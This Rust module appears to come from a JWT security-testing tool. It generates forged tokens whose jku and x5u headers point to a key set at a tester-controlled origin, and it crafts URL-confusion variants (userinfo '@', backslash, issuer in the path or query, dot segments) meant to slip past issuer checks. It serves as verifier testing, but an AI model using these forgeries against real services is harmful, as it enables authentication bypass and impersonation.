//! Tokens that point to keys of ours at an address that somebody watches
//! (HDR-002, HDR-003).

use doorward_jose::{
    algorithm::Algorithm,
    json::{Object, Value},
    signing_key::SigningKey,
};
use serde_json::json;

use super::{Forgery, Workshop};

/// An address that the target could reach, and what was forged for it.
#[derive(Clone, Debug)]
pub struct Lure {
    /// What is to be served there at every path: the key set that the forged
    /// tokens are signed for.
    pub jwks: String,
    /// The tokens.
    pub forgeries: Vec<Forgery>,
}

/// Forgeries whose keys are at `origin`, for example `http://127.0.0.1:9000`;
/// none if the valid token is no JWS.
pub fn lure(valid: &str, origin: &str) -> Option<Lure> {
    let mut workshop = Workshop::open(valid)?;
    let key = SigningKey::generate(Algorithm::Es256).ok()?;
    let jwk = key.verifying_key().to_jwk()?.to_object();
    let mut genuine = jwk.clone();
    if let Some(kid) = workshop.header.get("kid") {
        genuine.insert("kid".to_owned(), kid.clone());
    }
    let jwks = json!({ "keys": [Value::Object(jwk.clone()), Value::Object(genuine)] }).to_string();
    let own = jwk.get("kid").cloned().unwrap_or_default();
    for name in ["jku", "x5u"] {
        for (what, kid) in [
            ("genuine kid", workshop.header.get("kid").cloned()),
            ("own kid", Some(own.clone())),
        ] {
            let mut header = workshop.header_with(name, format!("{origin}/keys"));
            header.extend(kid.map(|kid| ("kid".to_owned(), kid)));
            sign(
                &mut workshop,
                &key,
                "HDR-002",
                format!("own keys at {name}, {what}"),
                header,
            );
        }
    }
    for (what, address) in tricks(&workshop, origin) {
        let mut header = workshop.header_with("jku", address);
        header.insert("kid".to_owned(), own.clone());
        sign(&mut workshop, &key, "HDR-003", what, header);
    }
    Some(Lure {
        jwks,
        forgeries: workshop.forgeries,
    })
}

fn sign(
    workshop: &mut Workshop<'_>,
    key: &SigningKey,
    case: &'static str,
    what: String,
    header: Object,
) {
    if let Some(token) = workshop.signed(key, header) {
        workshop.add(case, what, token);
    }
}

/// Spellings in which the issuer's name stands and ours is meant.
fn tricks(workshop: &Workshop<'_>, origin: &str) -> Vec<(String, String)> {
    let issuer = workshop
        .claims
        .get("iss")
        .and_then(Value::as_str)
        .unwrap_or("https://issuer.example");
    let host = issuer.split_once("://").map_or(issuer, |(_, rest)| rest);
    let host = host.split('/').next().unwrap_or_default();
    let (scheme, ours) = origin.split_once("://").unwrap_or(("http", origin));
    [
        (
            "the issuer as user name",
            format!("{scheme}://{host}@{ours}/keys"),
        ),
        (
            "the issuer in the path",
            format!("{origin}/{host}/.well-known/jwks.json"),
        ),
        ("the issuer in the query", format!("{origin}/?{issuer}")),
        ("the issuer in the fragment", format!("{origin}/#{issuer}")),
        (
            "a backslash before the issuer",
            format!("{scheme}://{ours}\\@{host}/keys"),
        ),
        ("no scheme", format!("//{ours}/keys")),
        ("dots in the path", format!("{origin}/.well-known/../keys")),
    ]
    .map(|(what, address)| (what.to_owned(), address))
    .into()
}
